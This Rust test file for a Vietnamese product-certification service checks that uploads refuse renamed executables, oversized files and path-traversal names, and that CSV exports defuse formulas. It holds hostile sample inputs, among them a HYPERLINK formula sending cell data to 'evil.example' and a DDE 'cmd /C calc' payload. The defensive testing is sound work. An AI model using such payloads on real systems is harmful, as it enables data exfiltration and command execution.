//! Hostile uploads (both databases): every upload route refuses a renamed
//! executable (ELF or PE bytes declared as PDF, JPEG or .xlsx), refuses what is too
//! large, and never uses the client's file name in a path; the names sent back in
//! `Content-Disposition` are the server's own. Every refusal is a 4xx with an error
//! code and a Vietnamese message (JSON for the API, the error page for forms).
//!
//! Issue 12, each finding reproduced as written: a workbook declaring 4,294,967,295
//! shared strings (and its variants) is a 422 on every .xlsx upload and the server
//! still answers; every CSV download defuses formulas; NUL and control characters
//! are a 422 naming the field, in JSON, forms and queries; search input is bounded.

use crate::common;

use common::{PASSWORD, TestApp, TestClient, TestResponse, producer_body, tax_code};
use ocop_domain::{ErrorCode, Lang};
use ocop_service::accounts::{self, NewUser};
use serde_json::{Value, json};

const CAM_XUYEN: &str = "2025/commune/18673";
const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
const PE: &[u8] = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0PE\0\0L\x01";
const PDF: &[u8] = b"%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n";
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// A 4xx JSON refusal with a code and a message in Vietnamese.
fn refused(response: &TestResponse, what: &str) -> String {
    assert!(
        (400..500).contains(&response.status),
        "{what}: {} {}",
        response.status,
        response.text
    );
    let body = response.json();
    let code = body["error"]["code"].as_str().unwrap_or_default().to_owned();
    let message = body["error"]["message"].as_str().unwrap_or_default();
    assert!(!code.is_empty(), "{what}: no error code in {}", response.text);
    assert!(
        !message.is_ascii() && !message.is_empty(),
        "{what}: not a Vietnamese message: {message}"
    );
    code
}

/// A 4xx page refusing with `code`: the error page (`data-error-code`) or the form shown
/// again with the code's Vietnamese message.
fn refused_page(response: &TestResponse, what: &str, code: ErrorCode) {
    assert!(
        (400..500).contains(&response.status),
        "{what}: {} {}",
        response.status,
        response.text
    );
    assert!(response.text.contains("lang=\"vi\""), "{what}: not in Vietnamese");
    let marked = response
        .text
        .contains(&format!("data-error-code=\"{}\"", code.as_str()));
    let said = response.text.contains(code.message(Lang::Vi));
    assert!(
        marked || said,
        "{what}: the page does not say {code:?}: {}",
        response.text
    );
}

/// A multipart body with one file part named `field` and the given client file name.
fn multipart(
    field: &str,
    file_name: &str,
    content_type: &str,
    bytes: &[u8],
    extra: &[(&str, &str)],
) -> (String, Vec<u8>) {
    let boundary = "ocopBoundary7MA4YWxkTrZu0gW";
    let mut body = Vec::new();
    for (name, value) in extra {
        body.extend_from_slice(
            format!("--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n").as_bytes(),
        );
    }
    body.extend_from_slice(
        format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{file_name}\"\r\n\
             Content-Type: {content_type}\r\n\r\n"
        )
        .as_bytes(),
    );
    body.extend_from_slice(bytes);
    body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

async fn post_multipart(client: &mut TestClient, path: &str, form: (String, Vec<u8>)) -> TestResponse {
    client.post_bytes(path, &form.0, form.1).await
}

/// Every file under `dir`, recursively.
fn files_under(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(files_under(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[tokio::test]
async fn uploads_refuse_executables_and_oversize_files_and_ignore_client_names() {
    let app = TestApp::spawn().await;
    common::publish_sample_sheets(&app).await;
    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
    let producer = admin
        .post_json(
            "/api/v1/producers",
            &producer_body("HTX Thù Địch", &tax_code(654), CAM_XUYEN),
        )
        .await;
    assert_eq!(producer.status, 201, "{}", producer.text);
    let producer_id = producer.json()["id"].as_str().unwrap().to_owned();
    let product = admin
        .post_json(
            "/api/v1/products",
            &json!({ "name": "Trà Thù Địch", "producer_id": producer_id, "product_set_code": "I.4.a", "commune_id": CAM_XUYEN }),
        )
        .await;
    assert_eq!(product.status, 201, "{}", product.text);
    let product_id = product.json()["id"].as_str().unwrap().to_owned();
    let dossier = admin
        .post_json("/api/v1/dossiers", &json!({ "product_id": product_id, "kind": "new" }))
        .await;
    assert_eq!(dossier.status, 201, "{}", dossier.text);
    let dossier_id = dossier.json()["id"].as_str().unwrap().to_owned();

    // Photos (API, raw body): executables are refused whatever the declared type.
    let photos = format!("/api/v1/products/{product_id}/photos");
    for (bytes, declared) in [
        (ELF, "image/jpeg"),
        (PE, "image/png"),
        (ELF, "application/octet-stream"),
    ] {
        let r = admin.post_bytes(&photos, declared, bytes.to_vec()).await;
        assert_eq!(refused(&r, "photo"), "unsupported_media_type");
    }
    let mut big_jpeg = vec![0xFF, 0xD8, 0xFF, 0xE0];
    big_jpeg.resize(9 * 1024 * 1024, 0);
    let r = admin.post_bytes(&photos, "image/jpeg", big_jpeg).await;
    assert_eq!(refused(&r, "9 MiB photo"), "payload_too_large");
    let mut huge = PDF.to_vec();
    huge.resize(11 * 1024 * 1024, b' ');
    let r = admin.post_bytes(&photos, "image/jpeg", huge.clone()).await;
    assert_eq!(refused(&r, "11 MiB body"), "payload_too_large");

    // Photos (page, multipart): the same, with a path in the client's file name.
    let page = format!("/products/{product_id}/photos");
    let r = post_multipart(
        &mut admin,
        &page,
        multipart("photo", "../../../x.jpg", "image/jpeg", ELF, &[]),
    )
    .await;
    refused_page(&r, "photo page", ErrorCode::UnsupportedMediaType);

    // Evidence vault (API, raw body).
    let vault = format!("/api/v1/producers/{producer_id}/evidence?doc_type=test_report");
    for (bytes, declared) in [(ELF, "application/pdf"), (PE, "application/pdf"), (PE, "image/jpeg")] {
        let r = admin.post_bytes(&vault, declared, bytes.to_vec()).await;
        assert_eq!(refused(&r, "evidence"), "unsupported_media_type");
    }
    let mut big_pdf = PDF.to_vec();
    big_pdf.resize(9 * 1024 * 1024, b' ');
    let r = admin.post_bytes(&vault, "application/pdf", big_pdf).await;
    assert_eq!(refused(&r, "9 MiB evidence"), "payload_too_large");

    // Dossier upload (page, multipart): an executable named .pdf is refused; a real PDF
    // sent as `../../../etc/passwd.pdf` is stored under its SHA-256, never under that name.
    let upload = format!("/dossiers/{dossier_id}/upload");
    let fields = [("doc_type", "test_report"), ("title", "Phiếu kiểm nghiệm")];
    let r = post_multipart(
        &mut admin,
        &upload,
        multipart("file", "giay-phep.pdf", "application/pdf", PE, &fields),
    )
    .await;
    refused_page(&r, "dossier upload", ErrorCode::UnsupportedMediaType);
    let traversal = "../../../etc/passwd.pdf";
    let r = post_multipart(
        &mut admin,
        &upload,
        multipart("file", traversal, "application/pdf", PDF, &fields),
    )
    .await;
    assert!(r.status < 400, "a real PDF is accepted: {} {}", r.status, r.text);
    let root = app.test_db.dir.path();
    for path in files_under(root) {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        assert!(
            !name.contains("passwd") && !name.contains("x.jpg"),
            "a client name reached the disk: {path:?}"
        );
    }
    let stored: Vec<_> = files_under(app.ctx.files.root());
    assert!(!stored.is_empty());
    for path in &stored {
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        assert!(
            name.len() == 64 && name.chars().all(|c| c.is_ascii_hexdigit()),
            "a stored file is named by its content only: {path:?}"
        );
    }
    let documents = admin.get(&format!("/api/v1/producers/{producer_id}/evidence")).await;
    assert!(
        !documents.text.contains("passwd"),
        "the client's name is not shown back: {}",
        documents.text
    );
    let document_id = documents.json().as_array().unwrap()[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let download = admin.get(&format!("/api/v1/evidence/{document_id}")).await;
    assert_eq!(download.status, 200);
    assert_eq!(download.headers["content-disposition"], "attachment");
    assert_eq!(download.headers["content-type"], "application/pdf");

    // Criteria sets (API raw body, page multipart): executables and broken zips.
    for (bytes, declared) in [
        (ELF, XLSX),
        (PE, XLSX),
        (ELF, "application/json"),
        (b"PK\x03\x04MZ\x90\0".as_slice(), XLSX),
    ] {
        let r = admin
            .post_bytes("/api/v1/criteria-sets/import", declared, bytes.to_vec())
            .await;
        refused(&r, "criteria import");
    }
    let r = post_multipart(
        &mut admin,
        "/criteria-sets",
        multipart("file", "..\\..\\bo.xlsx", XLSX, ELF, &[]),
    )
    .await;
    assert!((400..500).contains(&r.status), "criteria page: {} {}", r.status, r.text);
    assert!(r.text.contains("lang=\"vi\""));
    assert!(!r.text.contains("bo.xlsx"), "the client's name is not shown back");

    // Certificate import (CSV or .xlsx by content): executables are not rows.
    for bytes in [ELF, PE] {
        let r = admin
            .post_bytes("/api/v1/certificates/import", "text/csv", bytes.to_vec())
            .await;
        assert_eq!(refused(&r, "certificate import"), "import_rejected");
    }
    let r = admin.post_bytes("/api/v1/certificates/import", XLSX, huge).await;
    assert_eq!(refused(&r, "11 MiB import"), "payload_too_large");

    // Directive text: the reader takes text in JSON; a body over the limit is refused.
    let mut text = String::from("{\"text\":\"");
    text.push_str(&"Chỉ thị ".repeat(1_400_000));
    text.push_str("\"}");
    let r = admin
        .post_bytes(
            "/api/v1/programme/directives/preview",
            "application/json",
            text.into_bytes(),
        )
        .await;
    assert_eq!(refused(&r, "12 MiB directive"), "payload_too_large");
}

/// A seed of scripts/hostile-xlsx.py (fuzz/seeds/certificate_xlsx/).
fn seed(name: &str) -> Vec<u8> {
    let path = format!(
        "{}/../../fuzz/seeds/certificate_xlsx/{name}",
        env!("CARGO_MANIFEST_DIR")
    );
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

const HOSTILE_WORKBOOKS: [&str; 4] = [
    "shared_strings_4294967295.xlsx",
    "shared_strings_100000000.xlsx",
    "shared_strings_unique_lies.xlsx",
    "styles_70000_xf.xlsx",
];

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// Today in Vietnam, `YYYY-MM-DD`.
fn today() -> chrono::NaiveDate {
    (chrono::Utc::now() + chrono::Duration::hours(7)).date_naive()
}

/// A producer and its product in Cẩm Xuyên with a 4★ certificate issued today; returns
/// the product id and the verification code.
async fn certified(client: &mut TestClient, producer_name: &str, product_name: &str, seed: u64) -> (String, String) {
    let producer = client
        .post_json(
            "/api/v1/producers",
            &producer_body(producer_name, &tax_code(seed), CAM_XUYEN),
        )
        .await;
    assert_eq!(producer.status, 201, "{}", producer.text);
    let product = client
        .post_json(
            "/api/v1/products",
            &json!({ "name": product_name, "producer_id": producer.json()["id"], "product_set_code": "I.4.a", "commune_id": CAM_XUYEN }),
        )
        .await;
    assert_eq!(product.status, 201, "{}", product.text);
    let product_id = product.json()["id"].as_str().unwrap().to_owned();
    let decision = json!({ "number": format!("{seed}/QĐ-UBND"), "decided_on": (today() - chrono::Duration::days(5)).to_string(),
        "issuer_name": "UBND tỉnh Hà Tĩnh", "issuer_level": "province", "legal_basis": "qd148" });
    let issued = client
        .record_certificates(
            &json!({ "decision": decision, "items": [{ "product_id": product_id, "stars": 4, "score": 78.25 }] }),
        )
        .await;
    assert_eq!(issued.status, 201, "{}", issued.text);
    let code = issued.json()[0]["verification_code"].as_str().unwrap().to_owned();
    (product_id, code)
}

/// The cells of a CSV download (the byte order mark checked and removed).
fn csv_cells(response: &TestResponse) -> Vec<Vec<String>> {
    assert_eq!(response.status, 200, "{}", response.text);
    assert!(
        response.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = response.text.strip_prefix('\u{feff}').unwrap_or_else(|| {
        panic!(
            "no byte order mark: {:?}",
            &response.text[..20.min(response.text.len())]
        )
    });
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// The cells of `column` (named in the header row) in every data row.
fn column(cells: &[Vec<String>], name: &str) -> Vec<String> {
    let at = cells[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name}"));
    cells[1..].iter().map(|row| row[at].clone()).collect()
}

fn field_error(response: &TestResponse, field: &str, code: ErrorCode) {
    assert_eq!(response.status, 422, "{field}: {}", response.text);
    assert!(
        response
            .field_codes()
            .contains(&(field.to_owned(), code.as_str().to_owned())),
        "{field} {code:?} expected: {}",
        response.text
    );
}

#[tokio::test]
async fn workbooks_declaring_billions_of_strings_are_refused_and_the_server_stays_up() {
    let app = TestApp::spawn().await;
    common::publish_sample_sheets(&app).await;
    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
    let mut province = app
        .login_as("tinh.hatinh", "province_officer", Some("2025/province/42"), None)
        .await;
    let mut central = app.login_as("trunguong", "central_officer", None, None).await;
    for name in HOSTILE_WORKBOOKS {
        let bytes = seed(name);
        // Certificate import (province officer), criteria-set import (central officer),
        // the criteria-set upload page (administrator): every .xlsx upload.
        let r = province
            .post_bytes("/api/v1/certificates/import", XLSX, bytes.clone())
            .await;
        assert_eq!(refused(&r, name), "import_rejected");
        field_error(&r, "file", ErrorCode::WorkbookDeclaresTooMuch);
        let r = central
            .post_bytes("/api/v1/criteria-sets/import", XLSX, bytes.clone())
            .await;
        assert_eq!(r.status, 422, "{name}: {}", r.text);
        assert!(
            r.field_codes()
                .contains(&("file".to_owned(), "workbook_declares_too_much".to_owned())),
            "{name}: {}",
            r.text
        );
        let r = post_multipart(
            &mut admin,
            "/criteria-sets",
            multipart("file", "bo.xlsx", XLSX, &bytes, &[]),
        )
        .await;
        refused_page(&r, name, ErrorCode::WorkbookDeclaresTooMuch);
        assert_eq!(r.status, 422, "{name}");
        let health = app.client().get("/healthz").await;
        assert_eq!(health.status, 200, "the server still answers after {name}");
    }
    // The honest workbook the seeds are made from passes the guard: refused, if at all,
    // for its rows, not for its declarations.
    let r = province
        .post_bytes("/api/v1/certificates/import", XLSX, seed("shared_strings_honest.xlsx"))
        .await;
    assert!(
        !r.text.contains("workbook_declares_too_much"),
        "the honest workbook is not refused for what it declares: {}",
        r.text
    );
}

#[tokio::test]
async fn every_csv_download_defuses_formulas_in_text_cells_and_starts_with_a_bom() {
    let app = TestApp::spawn().await;
    common::publish_sample_sheets(&app).await;
    accounts::create_user(
        &app.ctx.db,
        None,
        &NewUser {
            username: "hostile.admin".into(),
            display_name: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            password: PASSWORD.into(),
            role: "administrator".into(),
            scope_unit_id: None,
            producer_id: None,
        },
    )
    .await
    .unwrap();
    let mut admin = app.client();
    let login = admin
        .post_json(
            "/api/v1/auth/login",
            &json!({ "username": "hostile.admin", "password": PASSWORD }),
        )
        .await;
    assert_eq!(login.status, 200, "{}", login.text);
    certified(&mut admin, HYPERLINK, "+SUM(A1:A9)", 901).await;
    certified(&mut admin, "HTX Chè Thái", "Trà đen", 902).await;

    // Open data (public).
    let cells = csv_cells(&app.client().get("/api/v1/open-data/certificates.csv").await);
    assert_eq!(cells[0][0], "certificate_number");
    let producers = column(&cells, "producer_name");
    assert!(producers.contains(&format!("'{HYPERLINK}")), "{producers:?}");
    assert!(
        producers.contains(&"HTX Chè Thái".to_owned()),
        "plain text is untouched"
    );
    assert!(column(&cells, "product_name").contains(&"'+SUM(A1:A9)".to_owned()));
    assert!(
        column(&cells, "stars").iter().all(|s| s == "4"),
        "numeric cells are not quoted"
    );
    assert!(column(&cells, "score").iter().all(|s| s.parse::<f64>().is_ok()));

    // PTNT_OCOP.
    let day = today();
    let half = if chrono::Datelike::month(&day) <= 6 { "H1" } else { "H2" };
    let query = format!(
        "unit_id=2025/province/42&period={}-{half}&units=current",
        chrono::Datelike::year(&day)
    );
    let cells = csv_cells(&admin.get(&format!("/api/v1/programme/ptnt.csv?{query}")).await);
    assert_eq!(cells[0][0], "MA_OCOP");
    let producers = column(&cells, "ChuTheSXKD");
    assert!(producers.contains(&format!("'{HYPERLINK}")), "{producers:?}");
    assert!(column(&cells, "TenSanPham").contains(&"'+SUM(A1:A9)".to_owned()));

    // The audit trail goes through the same writer (byte order mark, numeric `seq`); its
    // actor column holds the login name, which cannot begin with a formula sign.
    let cells = csv_cells(&admin.get("/audit.csv?action=producer.create").await);
    assert!(!column(&cells, "actor_name").is_empty());
    assert!(column(&cells, "seq").iter().all(|s| s.parse::<u64>().is_ok()));
}

#[tokio::test]
async fn nul_and_control_characters_are_a_422_naming_the_field_and_text_is_stored_in_nfc() {
    let app = TestApp::spawn().await;
    common::publish_sample_sheets(&app).await;
    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
    // JSON: the finding (200 on SQLite, 500 on PostgreSQL before).
    let r = admin
        .post_json(
            "/api/v1/producers",
            &producer_body("abc\u{0}def", &tax_code(710), CAM_XUYEN),
        )
        .await;
    assert_eq!(refused(&r, "NUL in a producer name"), "validation_failed");
    field_error(&r, "name", ErrorCode::ControlCharacter);
    for (field, value) in [
        ("representative", "Nguyễn\u{1b}[2J An"),
        ("address_line", "Thôn 1\u{7f}"),
    ] {
        let mut body = producer_body("HTX Sạch", &tax_code(711), CAM_XUYEN);
        body[field] = Value::String(value.to_owned());
        field_error(
            &admin.post_json("/api/v1/producers", &body).await,
            field,
            ErrorCode::ControlCharacter,
        );
    }
    // A name is one line; a description may span lines (and keeps them).
    let r = admin
        .post_json(
            "/api/v1/producers",
            &producer_body("HTX\nXuống dòng", &tax_code(712), CAM_XUYEN),
        )
        .await;
    field_error(&r, "name", ErrorCode::ControlCharacter);
    // NFD in, NFC stored.
    let nfd = "HTX Ca\u{302}\u{309}m Xuye\u{302}n";
    let r = admin
        .post_json("/api/v1/producers", &producer_body(nfd, &tax_code(713), CAM_XUYEN))
        .await;
    assert_eq!(r.status, 201, "{}", r.text);
    assert_eq!(r.json()["name"], "HTX Cẩm Xuyên");
    let producer_id = r.json()["id"].as_str().unwrap().to_owned();
    let product = admin
        .post_json(
            "/api/v1/products",
            &json!({ "name": "Mật ong", "producer_id": producer_id, "product_set_code": "I.4.a",
                     "commune_id": CAM_XUYEN, "description": "Dòng một\r\n\tDòng hai" }),
        )
        .await;
    assert_eq!(product.status, 201, "{}", product.text);
    assert_eq!(product.json()["description"], "Dòng một\n\tDòng hai");
    // Nested JSON: the path of the field is named.
    let r = admin
        .post_json(
            "/api/v1/certificates",
            &json!({ "decision": { "number": "1/QĐ", "decided_on": today().to_string(), "issuer_name": "UBND\u{0}",
                     "issuer_level": "province", "legal_basis": "qd148" }, "items": [] }),
        )
        .await;
    field_error(&r, "decision.issuer_name", ErrorCode::ControlCharacter);

    // The anonymous fake-report form (500 before) and a query string.
    let (product_id, code) = certified(&mut admin, "HTX Báo Cáo", "Trà báo cáo", 714).await;
    // A text field typed beside an upload (multipart) is read the same way; its file is not.
    let r = post_multipart(
        &mut admin,
        &format!("/products/{product_id}/photos"),
        multipart("photo", "a.png", "image/png", b"\0\x01", &[("caption", "a\u{0}b")]),
    )
    .await;
    refused_page(&r, "NUL in a multipart text field", ErrorCode::ControlCharacter);
    assert_eq!(r.status, 422);
    let mut public = app.client();
    let r = public
        .post_bytes(
            &format!("/v/{code}/report"),
            "application/x-www-form-urlencoded",
            b"message=fake%00report&contact=".to_vec(),
        )
        .await;
    refused_page(&r, "NUL in a fake report", ErrorCode::ControlCharacter);
    assert_eq!(r.status, 422);
    let r = public
        .post_bytes(
            &format!("/v/{code}/report"),
            "application/x-www-form-urlencoded",
            "message=Nh%C3%A3n+m%E1%BB%9D%0D%0Ad%C3%B2ng+hai&contact="
                .as_bytes()
                .to_vec(),
        )
        .await;
    assert_eq!(r.status, 200, "a multi-line report is accepted: {}", r.text);
    let reports = ocop_storage::repo::certificate_repo::reports_of_province(app.ctx.db.conn(), "42")
        .await
        .unwrap();
    assert_eq!(reports.len(), 1);
    assert_eq!(reports[0].message, "Nhãn mờ\ndòng hai");
    let r = public.get("/api/v1/catalogue?q=m%E1%BA%ADt%00ong").await;
    field_error(&r, "q", ErrorCode::ControlCharacter);
    assert_eq!(app.client().get("/healthz").await.status, 200);
}

#[tokio::test]
async fn search_input_is_bounded_on_every_q() {
    let app = TestApp::spawn().await;
    common::publish_sample_sheets(&app).await;
    let mut admin = app.login_as("dl.admin", "administrator", None, None).await;
    certified(&mut admin, "HTX Mật Ong Rừng", "Mật ong rừng Cẩm Xuyên", 720).await;
    let mut public = app.client();
    let words_501 = vec!["mat"; 501].join("+");
    let words_3000 = vec!["ong"; 3_000].join("+");
    let thirteen = vec!["ong"; 13].join("+");
    let fifty_kb = "m".repeat(50 * 1024);
    for path in [
        "/api/v1/catalogue",
        "/api/v1/products",
        "/api/v1/producers",
        "/api/v1/admin-units",
    ] {
        let client = if path == "/api/v1/catalogue" {
            &mut public
        } else {
            &mut admin
        };
        for (what, q, code) in [
            ("501 words", &words_501, ErrorCode::TooLong),
            ("3,000 words", &words_3000, ErrorCode::TooLong),
            ("13 words", &thirteen, ErrorCode::TooManyTerms),
            ("50 KB", &fifty_kb, ErrorCode::TooLong),
        ] {
            let started = std::time::Instant::now();
            let r = client.get(&format!("{path}?q={q}")).await;
            assert!(
                started.elapsed().as_secs() < 5,
                "{path} {what}: {:?}",
                started.elapsed()
            );
            assert_eq!(refused(&r, &format!("{path} {what}")), "validation_failed");
            field_error(&r, "q", code);
        }
        let twelve = ["mat"; 12].join("+");
        assert_eq!(
            client.get(&format!("{path}?q={twelve}")).await.status,
            200,
            "{path}: 12 words"
        );
    }
    // The pages refuse the same query with a 422 page.
    let r = public.get(&format!("/catalogue?q={words_501}")).await;
    assert_eq!(r.status, 422, "{}", r.text);
    // Typo correction still works within the bounds: "mat ongg" finds "mật ong".
    let found = public.get("/api/v1/catalogue?q=mat+ongg").await;
    assert_eq!(found.status, 200);
    assert_eq!(found.json()["total"], 1, "{}", found.text);
}
